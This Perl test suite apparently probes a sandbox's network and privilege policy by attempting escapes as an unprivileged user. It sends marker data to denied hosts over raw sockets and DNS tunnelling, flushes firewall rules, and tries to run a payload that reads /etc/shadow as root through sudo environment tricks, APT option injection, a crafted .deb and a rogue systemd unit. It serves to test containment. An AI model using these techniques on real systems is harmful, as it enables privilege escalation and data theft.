# Attempts of the user `pixel` in a pixel that enforces its policy itself. The
# control is a pixel with the policy unrestricted.

sub to { sockaddr_in($_[1], inet_aton($_[0])) }
sub udp_socket { socket(my $s, AF_INET, SOCK_DGRAM, $_[0] // 0) or die "socket: $!"; setsockopt $s, SOL_SOCKET, SO_BROADCAST, 1; $s }
# Sends or connects with every kind of socket.
sub try_all { datagram($D, $_, $M, quiet => 1) for 53, 123, 443, 999; in($_) for grep { /hello/ } connects($D, 80) // '' }

row('TCP and UDP', 1, sub { try_all() });
row('raw and packet sockets', 0, sub {
    for ([255, udp4($D, 999)], [1, icmp(8, 0, "\0\1\0\1$M")]) { socket(my $r, AF_INET, SOCK_RAW, $_->[0]) or next; send $r, $_->[1], 0, to($D, 0) }
    eval { routed(udp4($D, 999)) };
});
row('sockets in a user namespace', 1, sub {
    $ENV{M} = $M;
    system 'unshare', '-Ur', 'perl', '-MSocket', '-e', 'for my $k ([2, 3, 255], [2, 2, 0], [17, 3, 768]) { socket my $s, $k->[0], $k->[1], $k->[2] or next; setsockopt $s, 1, 36, pack "i", 1; send $s, $ENV{M}, 0, sockaddr_in(999, inet_aton($ENV{D})) }';
    system 'unshare', '-Ur', 'sh', '-c', 'nft flush ruleset; ip link set eth0 down; ip route add 198.51.100.0/24 dev eth0; sysctl -w net.ipv4.ip_forward=1; tc qdisc add dev eth0 root pfifo';
    system 'unshare', '-Urn', 'nft', 'flush', 'ruleset';
    try_all();
});
row('ping', 1, sub { system 'ping', '-c1', '-W1', '-p', unpack('H*', $M), $D });
row('ping socket', 0, sub { socket my $s, AF_INET, SOCK_DGRAM, 1 or return; send $s, icmp(8, 0, "\0\1\0\1$M"), 0, to($D, 0) });
row('IP options', 1, sub {
    for my $options ("\x83\7\4" . inet_aton($D), "\x94\4\0\0", "\7\7\4\0\0\0\0\0") {
        my $s = udp_socket();
        setsockopt $s, 0, 4, $options;
        send $s, $M, 0, to($_, 999) for $D, $A;
    }
});
row('fast open', 1, sub {
    for my $port (80, 443) { socket my $s, AF_INET, SOCK_STREAM, 0; setsockopt $s, SOL_SOCKET, SO_SNDTIMEO, pack 'qq', 1, 0; send $s, $M, 0x20000000, to($D, $port); syswrite $s, $M }
});
row('other transport protocols', 0, sub {
    for my $k ([1, 262], [2, 136], [1, 132], [5, 132], [6, 33], [2, 33]) {
        socket my $s, AF_INET, $k->[0], $k->[1] or next;
        setsockopt $s, SOL_SOCKET, SO_SNDTIMEO, pack 'qq', 1, 0;
        send $s, $M, 0, to($D, 999) or do { connect $s, to($D, 80) and syswrite $s, $M };
    }
});
row('socket marks and bound devices', 1, sub {
    for my $option ([1, 36, pack 'i', 0xca6c], [1, 36, pack 'i', 1], [1, 25, "eth0\0"], [1, 12, pack 'i', 6], [0, 15, pack 'i', 1], [0, 19, pack 'i', 1], [0, 1, pack 'i', 0xb8]) {
        my $s = udp_socket();
        setsockopt $s, $option->[0], $option->[1], $option->[2];
        bind $s, to('198.51.100.9', 5000 + $option->[1]) if $option->[1] == 15 || $option->[1] == 19;
        send $s, $M, 0, to($D, 999);
    }
});
row('reused sockets', 1, sub {
    my $s = udp_socket();
    connect $s, to($A, 80);
    send $s, 'x', 0;
    connect $s, pack 'S x14', 0;
    connect $s, to($D, 80);
    send $s, $M, 0;
    socket my $t, AF_INET, SOCK_STREAM, 0;
    setsockopt $t, SOL_SOCKET, SO_SNDTIMEO, pack 'qq', 1, 0;
    connect $t, to($A, 80);
    connect $t, pack 'S x14', 0;
    syswrite $t, $M if connect $t, to($D, 80);
});
row('datagram to another host from a used port', 1, sub {
    my $s = udp_socket();
    bind $s, to('0.0.0.0', 5055);
    send $s, 'x', 0, to($A, 80);
    send $s, $M, 0, to($_, 80) for $D;
    send $s, $M, 0, to($A, 443);
});
row('large and segmented datagrams', 1, sub {
    my $s = udp_socket();
    send $s, $M x 1500, 0, to($D, 999);
    setsockopt $s, 17, 103, pack 'i', 500;
    send $s, $M x 300, 0, to($D, 999);
});
row('multicast and broadcast', 1, sub {
    my $s = udp_socket();
    setsockopt $s, 0, 33, pack 'i', 8;
    send $s, $M, 0, to($_, 5353) for '224.0.0.251', '224.0.0.1', '239.1.1.1', '255.255.255.255', $ENV{BCAST};
});
row('unicast to the neighbor and the host', 1, sub {
    datagram($_, $PORT, $M, quiet => 1) for $N, split / /, $HOSTS;
    connects($_, $PORT) for $N, (split / /, $HOSTS)[0];
});
row('IPv6', 1, sub {
    socket my $s, 10, SOCK_DGRAM, 0 or die;
    my $index = `cat /sys/class/net/eth0/ifindex`;
    setsockopt $s, 41, 17, pack 'i', $index;
    for my $to ("\xff\2" . "\0" x 13 . "\1", "\xff\2" . "\0" x 13 . "\xfb", "\0" x 10 . "\xff\xff" . inet_aton($D)) { send $s, $M, 0, pack('SnNa16L', 10, 999, 0, $to, $index) }
    socket my $t, 10, SOCK_DGRAM, 0;
    send $t, $M, 0, pack('SnNa16L', 10, 999, 0, "\0" x 10 . "\xff\xff" . inet_aton($D), 0);
});
row('source ports of services', 0, sub { for my $p (53, 67, 68, 123, 546) { my $s = udp_socket(); bind $s, to('0.0.0.0', $p) or next; send $s, $M, 0, to($D, $p) } });
row('probes with a small TTL', 1, sub { for my $ttl (1, 2, 3, 255) { my $s = udp_socket(); setsockopt $s, 0, 2, pack 'i', $ttl; send $s, $M, 0, to($D, 33434) } });
row('denied names', 1, sub {
    for my $server ('127.0.0.53', '127.0.0.1', $R, $GW) {
        datagram($server, 53, query("$M.denied.test", $_), quiet => 1) for 1, 16, 28, 65, 255;
        datagram($server, 53, query('allowed.test', 1, rest => labels($M)), quiet => 1);
        connects($server, $_, send => pack('n', length query("$M.denied.test")) . query("$M.denied.test")) for 53;
    }
    connects($R, 853);
    system "getent hosts $M.denied.test; resolvectl query --cache=no $M.example.org; resolvectl query -p llmnr $M; resolvectl query -p mdns $M.local; resolvectl query -i eth0 $M.local; resolvectl query --type=TXT $M.allowed.test";
});
row('hidden data in queries for an allowed name', 1, sub {
    my @long = map { query('allowed.test', 1, rest => $M x ($_ / length $M)) } 1100, 30_000, 65_000;
    for my $query (with_records(), (map { with_option($_) } 10, 8, 65001), @long) {
        datagram($_, 53, $query, quiet => 1) for '127.0.0.1', $R;
        datagram('127.0.0.1', 551, $query, quiet => 1);
        connects($R, 53, send => pack('n/a', $query));
    }
    connects('127.0.0.1', 551, send => pack('n/a', with_option(10)));
});
row('settings of the resolver and the network', 0, sub {
    for my $command ("resolvectl dns eth0 $D", "resolvectl domain eth0 $M", 'resolvectl revert eth0', 'resolvectl llmnr eth0 yes', 'networkctl down eth0', 'networkctl reload', 'networkctl reconfigure eth0',
        "busctl call org.freedesktop.resolve1 /org/freedesktop/resolve1 org.freedesktop.resolve1.Manager SetLinkDNS 'ia(iay)' 2 1 2 4 1 2 3 4") {
        in($command) if system("timeout 2 $command >/dev/null 2>&1 </dev/null") == 0 && !$CONTROL;
    }
});
row('address and port of the resolver', 0, sub {
    my $s = udp_socket();
    setsockopt $s, 0, 15, pack 'i', 1;
    in('bound') if bind $s, to($R, 53);
});
row('packet filter and routes', 0, sub {
    for my $command ('nft flush ruleset', 'nft list ruleset', "ip route add $D dev eth0", 'ip link set eth0 down', 'ip addr add 198.51.100.9/24 dev eth0', 'sysctl -w net.ipv4.ip_forward=1', 'tc qdisc replace dev eth0 root pfifo', 'ip neigh replace 10.0.0.9 lladdr 02:00:00:00:00:01 dev eth0', 'dmesg', 'cat /etc/shadow') {
        in($command) if system("timeout 2 $command >/dev/null 2>&1 </dev/null") == 0;
    }
    in('subordinate ids') if -x '/usr/bin/newuidmap' && `grep pixel /etc/subuid`;
});
row('new set-user-id programs', 0, sub {
    for my $path (`find / -xdev -perm /6000 -type f 2>/dev/null`) {
        chomp $path;
        in($path) if $path !~ m{/(chage|chfn|chsh|expiry|gpasswd|mount|newgrp|passwd|su|sudo|umount|dbus-daemon-launch-helper|unix_chkpwd|ssh-agent|ping|fusermount3|crontab|write|wall)$};
    }
});
row('writable system files', 0, sub {
    for my $path (`find /etc /usr /var /run /opt /boot /srv -writable -not -type l -not -path '/var/tmp*' -not -path '/run/user/*' -not -path '/run/lock*' -not -path '/run/screen*' -not -path '/var/lib/pixels/home*' 2>/dev/null`) {
        chomp $path;
        in($path) if !-S $path && !-c $path && !-p $path;
    }
});

# sudo: success if a file of root appears, or root's text is printed
our $SECRET = 'root:';
sub rooted {
    my @commands = @_;
    my $pay = "/tmp/pay-$M";
    open my $file, '>', $pay;
    print $file "#!/bin/sh\nid >/tmp/root-$M\ncat /etc/shadow\n";
    close $file;
    chmod 0755, $pay;
    for my $command (@commands) {
        $command =~ s/PAY/$pay/g;
        my $text = `cd /tmp; timeout 3 sh -c '$command' </dev/null 2>&1`;
        in("$command: $text") if $text =~ /^root:[*!\$]/m || -e "/tmp/root-$M" && (stat _)[4] == 0;
    }
}
row('sudo with other commands and environments', 1, sub {
    rooted('sudo -n PAY', 'sudo -n -s PAY', 'sudo -n -i PAY', 'sudo -n sh PAY', 'sudo -n -u#-1 PAY', 'sudo -n -u#4294967295 PAY', 'sudo -n -g root PAY', 'sudo -n -E PAY', 'sudo -n -D / PAY', 'sudo -n -R / PAY',
        'SUDO_EDITOR=PAY sudoedit -n /etc/shadow', 'sudo -n /usr/local/bin/../../bin/sh PAY', 'ln -sf PAY /tmp/safe-apt; PATH=/tmp:$PATH sudo -n safe-apt update', 'sudo -n /tmp/safe-apt update',
        'BASH_ENV=PAY ENV=PAY sudo -n -E safe-journalctl -n 1', 'sudo -n BASH_ENV=PAY safe-journalctl -n 1', 'sudo -n ENV=PAY safe-systemctl status x', 'sudo -n LD_PRELOAD=PAY safe-journalctl -n 1', 'sudo -n PATH=/tmp safe-journalctl -n 1', 'sudo -n PERL5OPT=-d safe-apt update');
});
row('options of safe-apt', 0, sub {
    rooted((map { ("sudo -n safe-apt update $_", "sudo -n safe-apt install $_ base-files", "sudo -n safe-apt $_ update") } '-oAPT::Update::Pre-Invoke::=PAY', '-o APT::Update::Pre-Invoke::=PAY', '--option=APT::Update::Pre-Invoke::=PAY', '-c=PAY', '-cPAY', '-qoAPT::Update::Pre-Invoke::=PAY', '-- -oAPT::Update::Pre-Invoke::=PAY'),
        'APT_CONFIG=PAY sudo -n -E safe-apt update', 'sudo -n safe-apt changelog apt', 'sudo -n safe-apt edit-sources', 'sudo -n safe-apt source x', 'sudo -n safe-apt shell');
});
row('packages from files and addresses', 0, sub {
    my $place = "/tmp/deb-$M";
    system "mkdir -p $place/DEBIAN && printf 'Package: x\\nVersion: 1\\nArchitecture: all\\nMaintainer: x\\nDescription: x\\n' >$place/DEBIAN/control && printf '#!/bin/sh\\nid >/tmp/root-$M\\n' >$place/DEBIAN/postinst && chmod 755 $place/DEBIAN/postinst && dpkg-deb -b $place /tmp/x.deb >/dev/null 2>&1";
    rooted(map { "sudo -n safe-apt install \"$_\"" } './x.deb', '/tmp/x.deb', 'file:/tmp/x.deb', "http://$D/x.deb", 'x/stable', 'base-files=1', 'base-files/stable', 'base-files+', "base-files\n./x.deb", '../tmp/x.deb', '^standard');
});
row('removal of what enforces the policy', 1, sub {
    for my $package (qw(nftables dnsmasq-base sudo systemd nftables- dash)) { system "timeout 2 sudo -n safe-apt remove $package >/dev/null 2>&1 </dev/null" }
    in("$_ is missing") for grep { !-e } '/usr/sbin/nft', '/usr/sbin/dnsmasq', '/usr/bin/sudo', '/lib/systemd/systemd', '/usr/bin/systemctl', '/usr/bin/systemd-run', '/usr/bin/awk';
    try_all();
});
row('services with safe-systemctl', 1, sub {
    my $units = join ' ', grep { /nft|pixels|egress|dnsmasq/ } `systemctl list-unit-files --no-legend | cut -d" " -f1` =~ /(\S+)/g;
    system "printf '[Service]\\nExecStart=PAY\\n' | sed s,PAY,/tmp/pay-$M, >/tmp/evil.service";
    rooted('sudo -n safe-systemctl link /tmp/evil.service; sudo -n safe-systemctl start evil', 'sudo -n safe-systemctl start /tmp/evil.service', 'sudo -n safe-systemctl enable /tmp/evil.service', 'sudo -n safe-systemctl --root=/tmp enable evil', 'sudo -n safe-systemctl set-environment LD_PRELOAD=PAY', 'sudo -n safe-systemctl edit x',
        'sudo -n safe-systemctl cat /etc/shadow', 'sudo -n safe-systemctl -H localhost start x', 'sudo -n safe-systemctl start debug-shell', 'sudo -n safe-systemctl isolate rescue.target', 'sudo -n safe-systemctl start "user@0"', 'SYSTEMD_PAGER=PAY SYSTEMD_PAGERSECURE=0 PAGER=PAY sudo -n -E safe-systemctl status dbus', 'sudo -n safe-systemctl status ../../etc/shadow');
    for my $verb (qw(stop restart disable mask kill revert freeze try-restart reload)) { system "timeout 3 sudo -n safe-systemctl $verb $_ >/dev/null 2>&1 </dev/null" for split(/ /, $units), 'nftables', 'systemd-resolved' }
    try_all();
});
row('options of safe-journalctl', 0, sub {
    rooted('sudo -n safe-journalctl --file /etc/shadow', 'sudo -n safe-journalctl -D /root', 'sudo -n safe-journalctl --root /tmp', 'sudo -n safe-journalctl --cursor-file=/tmp/root-c -n 1', 'sudo -n safe-journalctl -n 1 --cursor-file /etc/cron.d/x', 'sudo -n safe-journalctl --vacuum-size=1', 'sudo -n safe-journalctl -u "x --root=/"', 'sudo -n safe-journalctl -n +1', 'PAGER=PAY SYSTEMD_PAGER=PAY LESSOPEN="|PAY %s" sudo -n -E safe-journalctl -n 9');
    in('cursor file') if -e '/tmp/root-c' || -e '/etc/cron.d/x';
});
row('services over D-Bus', 1, sub {
    rooted('systemd-run --pipe --wait PAY', 'sudo -n systemd-run --pipe --wait PAY', 'pkexec PAY', 'loginctl enable-linger', 'machinectl shell root@.host PAY', 'hostnamectl set-hostname evil', 'su -c PAY', 'su root -c PAY', 'systemctl link /tmp/evil.service', 'systemctl start debug-shell',
        'busctl call org.freedesktop.systemd1 /org/freedesktop/systemd1 org.freedesktop.systemd1.Manager StartTransientUnit "ssa(sv)a(sa(sv))" x.service fail 1 ExecStart "a(sasb)" 1 PAY 1 PAY false 0');
    in('linger') if glob '/var/lib/systemd/linger/*';
});
loud('many denied destinations, then all again', 1, sub {
    my $s = udp_socket();
    for my $i (1 .. 1500) { send $s, 'x', 0, to($D, 1000 + $i) }
    try_all();
});
